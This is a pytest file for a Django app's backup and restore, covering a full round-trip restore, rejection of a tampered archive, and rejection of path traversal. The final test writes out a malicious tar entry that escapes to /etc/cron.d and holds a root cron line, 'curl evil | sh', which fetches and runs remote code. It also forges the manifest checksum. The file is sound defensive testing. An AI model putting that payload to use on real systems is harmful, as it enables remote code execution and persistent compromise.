"""`make backup` / `make restore`: database and files together, restored into an empty database and compared.

Runs on whichever database the suite uses (SQLite or PostgreSQL), with real dumps.
"""

import hashlib
import io
import json
import os
import tarfile
from pathlib import Path

import pytest
from django.db import connection, connections

from partnership import backup
from tests import factories
from tests.security.conftest import make_document

pytestmark = pytest.mark.django_db(transaction=True, serialized_rollback=True)


def some_records():
    board = factories.BoardPageFactory(title="Backup Board", code="BKB")
    council = factories.OrganisationFactory(name="Backup Council")
    factories.BoardPartnerFactory(board=board, organisation=council)
    meeting = factories.MeetingPageFactory(board=board, agenda_published=True)
    item = factories.AgendaItemFactory(meeting=meeting, number="1", title="Budget — £40,000 for Brân’s café")
    paper = make_document("Budget paper", "budget.pdf", b"%PDF-1.4 budget paper bytes")
    item.papers.add(paper)
    item.save()
    factories.ActionFactory(board=board, owner=council, description="Report back on the café")
    factories.UserFactory(username="officer", groups=[council.group])
    return paper


def empty_database(tmp_path):
    """A second, empty database of the same engine, as a Django connection alias."""
    settings = dict(connection.settings_dict)
    if connection.vendor == "sqlite":
        settings["NAME"] = str(tmp_path / "empty.sqlite3")
    else:
        name = f"{settings['NAME']}_restore_{os.getpid()}"
        with connection.cursor() as cursor:
            cursor.execute(f'DROP DATABASE IF EXISTS "{name}"')
            cursor.execute(f'CREATE DATABASE "{name}"')
        settings["NAME"] = name
    # A wrapper of its own, outside the test's connection handler: a second, independent database.
    return type(connections["default"])(settings, alias="restore_target")


def drop(target):
    target.close()
    if connection.vendor == "postgresql":
        with connection.cursor() as cursor:
            cursor.execute(f'DROP DATABASE IF EXISTS "{target.settings_dict["NAME"]}"')


def test_backup_restores_into_an_empty_database_with_its_files(tmp_path):
    paper = some_records()
    paper_path = Path(paper.file.path)
    folder = backup.backup(tmp_path / "backups")
    assert {p.name for p in folder.iterdir()} >= {"manifest.json", "media.tar.gz"}

    paper_path.unlink()  # the disk is lost along with the database
    target = empty_database(tmp_path)
    try:
        with target.cursor() as cursor:
            assert target.introspection.table_names(cursor) == []
        manifest = backup.restore(folder, connection=target)
        restored = backup.fingerprint(target)
        assert restored == backup.fingerprint(connection) == manifest["tables"]
        assert restored["boards_agendaitem"][0] == 1 and restored["boards_action"][0] == 1
        with target.cursor() as cursor:
            cursor.execute("SELECT title FROM boards_agendaitem")
            assert cursor.fetchone()[0] == "Budget — £40,000 for Brân’s café"
    finally:
        drop(target)
    assert paper_path.read_bytes() == b"%PDF-1.4 budget paper bytes"


def test_restore_refuses_a_damaged_backup(tmp_path):
    folder = backup.backup(tmp_path)
    with open(folder / "media.tar.gz", "ab") as archive:
        archive.write(b"tampered")
    with pytest.raises(backup.BackupError, match="checksum"):
        backup.restore(folder)


def test_restore_refuses_a_media_archive_that_escapes_its_folder(tmp_path):
    folder = backup.backup(tmp_path)
    evil = io.BytesIO()
    with tarfile.open(fileobj=evil, mode="w:gz") as archive:
        info = tarfile.TarInfo("default/../../../etc/cron.d/evil")
        payload = b"* * * * * root curl evil | sh\n"
        info.size = len(payload)
        archive.addfile(info, io.BytesIO(payload))
    (folder / "media.tar.gz").write_bytes(evil.getvalue())
    data = json.loads((folder / "manifest.json").read_text())
    data["sha256"]["media.tar.gz"] = hashlib.sha256(evil.getvalue()).hexdigest()
    (folder / "manifest.json").write_text(json.dumps(data))
    with pytest.raises(backup.BackupError, match="unsafe path"):
        backup.restore(folder)
